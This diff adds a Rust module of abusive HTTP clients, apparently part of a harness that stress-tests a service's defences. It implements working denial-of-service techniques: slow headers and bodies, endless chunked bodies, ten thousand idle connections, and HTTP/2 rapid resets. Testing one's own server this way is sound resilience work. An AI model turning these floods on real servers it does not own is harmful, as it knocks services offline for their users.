@@ -1,0 +1,152 @@
+//! Abusive clients: slow requests, endless bodies, idle connections, and HTTP/2 rapid resets.
+
+use std::net::SocketAddr;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::task::JoinSet;
+use tokio::time::sleep;
+
+/// The interval between the bytes of a slow client.
+const BYTE_INTERVAL: Duration = Duration::from_millis(250);
+/// The pause of a client before it connects again.
+const RECONNECT_PAUSE: Duration = Duration::from_millis(20);
+/// How many connections are opened before a pause, so that the accept backlog does not overflow.
+const BATCH: usize = 100;
+
+/// A kind of abuse.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Abuse {
+    SlowHeaders,
+    SlowBodies,
+    EndlessBodies,
+    Idle,
+    Http2Resets,
+}
+
+impl Abuse {
+    /// Its name in the report.
+    pub(crate) fn name(self) -> &'static str {
+        match self {
+            Self::SlowHeaders => "slow headers",
+            Self::SlowBodies => "slow bodies",
+            Self::EndlessBodies => "endless bodies",
+            Self::Idle => "idle connections",
+            Self::Http2Resets => "HTTP/2 resets",
+        }
+    }
+
+    /// Its number of concurrent connections.
+    pub(crate) fn connections(self) -> usize {
+        match self {
+            // More than the concurrency limit of a service.
+            Self::SlowHeaders | Self::SlowBodies => 1100,
+            Self::EndlessBodies => 16,
+            Self::Idle => 10_000,
+            Self::Http2Resets => 4,
+        }
+    }
+}
+
+/// What the clients have done so far.
+#[derive(Debug, Default)]
+pub(crate) struct Activity {
+    /// Connections that were opened.
+    pub(crate) connected: AtomicUsize,
+    /// Connections that were refused.
+    pub(crate) refused: AtomicUsize,
+    /// Requests that were begun, or HTTP/2 streams.
+    pub(crate) requests: AtomicUsize,
+}
+
+/// Keeps `connections` to the server at `address` open until it is cancelled.
+pub(crate) async fn attack(abuse: Abuse, connections: usize, address: SocketAddr, activity: Arc<Activity>) {
+    let mut clients = JoinSet::new();
+    for number in 1..=connections {
+        clients.spawn(client(abuse, address, Arc::clone(&activity)));
+        if number % BATCH == 0 {
+            sleep(Duration::from_millis(5)).await;
+        }
+    }
+    while clients.join_next().await.is_some() {}
+}
+
+async fn client(abuse: Abuse, address: SocketAddr, activity: Arc<Activity>) {
+    loop {
+        match TcpStream::connect(address).await {
+            Ok(stream) => {
+                activity.connected.fetch_add(1, Ordering::Relaxed);
+                // Ends when the server closes the connection.
+                let _ = match abuse {
+                    Abuse::SlowHeaders => {
+                        send_slowly(stream, b"GET /api/v1/orders/1 HTTP/1.1\r\nX-Slow: ", &activity).await
+                    }
+                    Abuse::SlowBodies => send_slowly(stream, &body_head("Content-Length: 10000"), &activity).await,
+                    Abuse::EndlessBodies => send_endlessly(stream, &activity).await,
+                    Abuse::Idle => idle(stream).await,
+                    Abuse::Http2Resets => open_and_reset(stream, &activity).await.map_err(std::io::Error::other),
+                };
+            }
+            Err(_) => {
+                activity.refused.fetch_add(1, Ordering::Relaxed);
+            }
+        }
+        sleep(RECONNECT_PAUSE).await;
+    }
+}
+
+fn body_head(length: &str) -> Vec<u8> {
+    format!("POST /api/v1/orders HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{length}\r\n\r\n")
+        .into_bytes()
+}
+
+async fn send_slowly(mut stream: TcpStream, begin: &[u8], activity: &Activity) -> std::io::Result<()> {
+    activity.requests.fetch_add(1, Ordering::Relaxed);
+    stream.write_all(begin).await?;
+    let mut answer = [0; 1024];
+    loop {
+        tokio::select! {
+            // An answer, or the end of the connection.
+            _ = stream.read(&mut answer) => return Ok(()),
+            () = sleep(BYTE_INTERVAL) => stream.write_all(b" ").await?,
+        }
+    }
+}
+
+async fn send_endlessly(mut stream: TcpStream, activity: &Activity) -> std::io::Result<()> {
+    activity.requests.fetch_add(1, Ordering::Relaxed);
+    stream.write_all(&body_head("Transfer-Encoding: chunked")).await?;
+    let chunk = [b"4000\r\n".as_slice(), &[b' '; 0x4000], b"\r\n"].concat();
+    loop {
+        stream.write_all(&chunk).await?;
+    }
+}
+
+async fn idle(mut stream: TcpStream) -> std::io::Result<()> {
+    stream.read(&mut [0; 16]).await.map(|_| ())
+}
+
+/// Opens streams and resets them immediately, until the server closes the connection.
+async fn open_and_reset(stream: TcpStream, activity: &Activity) -> Result<(), h2::Error> {
+    let (mut requests, connection) = h2::client::handshake(stream).await?;
+    let opening = async {
+        loop {
+            for _ in 0..20 {
+                requests = requests.ready().await?;
+                let request = http::Request::get("http://localhost/api/v1/orders/1");
+                let request = request.body(()).map_err(|_| h2::Error::from(h2::Reason::INTERNAL_ERROR))?;
+                let (_answer, mut stream) = requests.send_request(request, false)?;
+                stream.send_reset(h2::Reason::CANCEL);
+                activity.requests.fetch_add(1, Ordering::Relaxed);
+            }
+            sleep(Duration::from_millis(10)).await;
+        }
+    };
+    tokio::select! {
+        closed = connection => closed,
+        closed = opening => closed,
+    }
+}
